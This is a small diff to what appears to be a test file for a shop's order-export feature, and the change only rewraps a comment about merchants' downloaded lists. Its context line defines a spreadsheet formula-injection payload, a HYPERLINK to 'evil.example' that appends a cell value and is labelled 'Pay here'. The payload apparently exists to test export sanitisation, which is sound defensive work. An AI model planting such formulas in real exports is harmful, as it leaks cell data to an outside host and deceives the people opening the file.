@@ -9,7 +9,9 @@ import { setFaultMode } from './orders/parcels-of-the-day';
 import { ordersSuite } from './orders-suite';
 import { DEMO_SHOP, ROOT, SECOND_SHOP, until } from './product';
 
-/** A file of a filtered list, as a merchant downloads it: row by row what the database holds, and for nobody else. */
+/**
+ * A file of a filtered list, as a merchant downloads it: row by row the database's content, and inaccessible to others.
+ */
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Pay here")';
 const COLUMNS = [
   'Order',
